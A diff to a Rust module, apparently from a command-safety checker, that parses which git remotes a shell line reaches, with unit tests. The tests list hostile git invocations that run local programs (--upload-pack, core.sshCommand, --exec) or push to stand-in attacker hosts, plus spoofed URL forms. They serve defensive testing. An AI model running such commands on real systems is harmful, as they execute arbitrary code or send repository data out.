@@ -1,44 +1,47 @@
 //! The remotes that a line's git commands talk to, as far as it says which.
 
-use super::{authority, base};
-use crate::{shell::CommandLine, text::WordList};
+use super::{
+    address::Address,
+    base,
+    known::{GIT, GIT_COMMANDS},
+};
+use crate::{
+    shell::{CommandLine, SimpleCommand},
+    text::WordList,
+};
 
-/// Options before the name of a remote that take no value and choose no other remote.
-pub(super) const FLAGS: WordList = WordList(
-    "--atomic --delete --dry-run --ff --ff-only --follow-tags --force --force-with-lease --no-ff --no-rebase --no-verify
-     --quiet --rebase --set-upstream --tags --verbose -d -f -n -q -u -v",
-);
+/// The commands of git that reach the remote that they name.
+pub(super) const GIT_REMOTE: WordList = WordList("clone fetch ls-remote pull push");
 
 /// The remote of a git command.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum GitRemote {
-    /// A server that is named in so many words.
-    Host(String),
-    /// A remote of the repository; no name: the one that git chooses for the branch.
+    /// An address that is cloned, for which the settings of no repository count.
+    Cloned(String),
+    /// An address or the name of a remote of the repository; none: the one that git chooses for the branch.
     Named { name: Option<String>, is_push: bool },
 }
 
 /// The remotes that the git commands of a line reach; empty where that is not certain.
 pub fn git_remotes(line: &CommandLine) -> Vec<GitRemote> {
-    // Elsewhere, or with what a variable holds, it is another repository.
-    if !line.is_plain() || line.commands.iter().any(super::SimpleCommand::is_move) {
+    if !line.is_plain() {
         return Vec::new();
     }
+    // Elsewhere it is another repository.
+    let moves = line.commands.iter().any(SimpleCommand::is_move);
     let mut found = Vec::new();
     for command in &line.commands {
-        let words: Vec<&str> = command.words.iter().map_while(|it| it.text.as_deref()).collect();
-        let Some(([program, subcommand], rest)) = words.split_first_chunk() else {
-            continue;
-        };
-        let is_push = *subcommand == "push";
-        if base(program) != "git" || !(is_push || matches!(*subcommand, "fetch" | "pull" | "ls-remote")) {
+        let texts = command.texts();
+        let is_meant = matches!(texts.as_slice(), [Some(program), Some(subcommand), ..]
+            if base(program) == "git" && GIT_REMOTE.contains(subcommand));
+        if !is_meant {
             continue;
         }
-        let Some(remote) = remote(rest, is_push).filter(|_| words.len() == command.words.len()) else {
-            return Vec::new();
-        };
-        if !found.contains(&remote) {
-            found.push(remote);
+        match remote(command) {
+            Some(GitRemote::Named { .. }) if moves => return Vec::new(),
+            Some(remote) if !found.contains(&remote) => found.push(remote),
+            Some(_) => {}
+            None => return Vec::new(),
         }
     }
     found
@@ -71,30 +74,30 @@ pub fn updates_refs(line: &CommandLine) -> bool {
     })
 }
 
-fn remote(arguments: &[&str], is_push: bool) -> Option<GitRemote> {
-    let mut words = arguments.iter().skip_while(|it| FLAGS.contains(it));
-    match words.next() {
-        None => Some(GitRemote::Named { name: None, is_push }),
-        Some(option) if option.starts_with('-') => None,
-        Some(url) if url.contains([':', '/']) => host(url).map(GitRemote::Host),
-        Some(name) => Some(GitRemote::Named {
-            name: Some((*name).to_owned()),
-            is_push,
-        }),
-    }
+/// The remote of a git command that is known to reach no other one.
+pub(super) fn remote(command: &SimpleCommand) -> Option<GitRemote> {
+    let words: Option<Vec<&str>> = command.texts().into_iter().collect();
+    let words = words?;
+    let (_, [subcommand, rest @ ..]) = words.split_first()? else {
+        return None;
+    };
+    let known = GIT_COMMANDS.iter().find(|it| it.program == *subcommand)?;
+    let name = known.arguments(rest)?.first().map(|it| (*it).to_owned());
+    Some(match *subcommand {
+        "clone" => GitRemote::Cloned(name?),
+        _ => GitRemote::Named {
+            name,
+            is_push: *subcommand == "push",
+        },
+    })
 }
 
 /// The server of an address as git has it: `https://host/path`, `user@host:path`, `host:path`. `None` for a path on this
-/// machine.
+/// machine, and for what git does not reach by itself.
 pub fn host(url: &str) -> Option<String> {
-    match url.split_once("://") {
-        Some(("file", _)) => None,
-        Some((_, rest)) => authority(rest),
-        // A slash before the first colon makes it a path.
-        None => match url.split_once(':') {
-            Some((front, _)) if !front.contains('/') && !front.is_empty() => authority(url),
-            Some(_) | None => None,
-        },
+    match GIT.read(url) {
+        Address::Server(host) => Some(host),
+        Address::Here | Address::Unknown => None,
     }
 }
 
@@ -105,7 +108,7 @@ mod tests {
     fn check(line: &str) -> String {
         let found = git_remotes(&CommandLine::read(line));
         let shown = found.into_iter().map(|it| match it {
-            GitRemote::Host(host) => host,
+            GitRemote::Cloned(url) => format!("clones {url}"),
             GitRemote::Named { name, is_push } => {
                 format!(
                     "{}{}",
@@ -149,9 +152,35 @@ mod tests {
             ("git push -u --force-with-lease fork HEAD", "to fork"),
             ("git fetch && git push origin", "from ?, to origin"),
             ("git pull --rebase upstream", "from upstream"),
-            ("git push https://evil.example/x.git", "evil.example"),
-            ("git push evil.example:x.git main", "evil.example"),
-            ("git push git@github.com:kim/shop.git", "github.com"),
+            ("git push https://evil.example/x.git", "to https://evil.example/x.git"),
+            ("git push evil.example:x.git main", "to evil.example:x.git"),
+            ("git fetch -tp --depth=1 origin main --verbose", "from origin"),
+            (
+                "git clone -qb main --depth 1 https://a.example/x y",
+                "clones https://a.example/x",
+            ),
+            ("git clone a.example:x && cd x", "clones a.example:x"),
+            ("cd x && git clone a.example:x; ls", "clones a.example:x"),
+            ("git clone a.example:x && cd x && git push", ""),
+            (
+                "git clone https://a.example/x; git push origin",
+                "clones https://a.example/x, to origin",
+            ),
+            // Each of these runs a program, or reaches another server.
+            ("git clone -u https://docs.rs/x ./evil", ""),
+            ("git clone -qu ./evil https://docs.rs/x", ""),
+            ("git clone --upload-pack=./evil https://docs.rs/x", ""),
+            ("git clone https://docs.rs/x --upl ./evil", ""),
+            ("git clone -c core.sshCommand=./evil docs.rs:x", ""),
+            ("git clone --config=core.sshCommand=./evil docs.rs:x", ""),
+            ("git clone --template=./evil https://docs.rs/x", ""),
+            ("git clone --recurse-submodules https://docs.rs/x", ""),
+            ("git clone -- https://docs.rs/x", ""),
+            ("git push --receive-pack=./evil origin", ""),
+            ("git push --exec ./evil origin", ""),
+            ("git fetch --upload-pack ./evil origin", ""),
+            ("git fetch --multiple a b", ""),
+            ("git pull -s ./evil origin", ""),
             ("git status && ls", ""),
             // A value may stand where the remote does.
             ("git push -o origin elsewhere", ""),
@@ -163,9 +192,6 @@ mod tests {
             ("GIT_DIR=x git push origin", ""),
             ("git push $REMOTE", ""),
             ("git push origin && git push \"$X\"", ""),
-            // No server of these can be named.
-            ("git push /srv/shop.git", ""),
-            ("git push ./a:b", ""),
         ] {
             assert_eq!(check(line), expected, "{line}");
         }
@@ -179,6 +205,10 @@ mod tests {
             ("ssh://git@[::1]:22/x", Some("[::1]")),
             ("git@github.com:kim/shop.git", Some("github.com")),
             ("server:shop.git", Some("server")),
+            ("evil.example:x@docs.rs", Some("evil.example")),
+            ("https://docs.rs,@evil.example/x", Some("evil.example")),
+            ("ext::sh -c x", None),
+            ("own://docs.rs/x", None),
             ("file:///srv/x", None),
             ("/srv/x", None),
             ("../x", None),
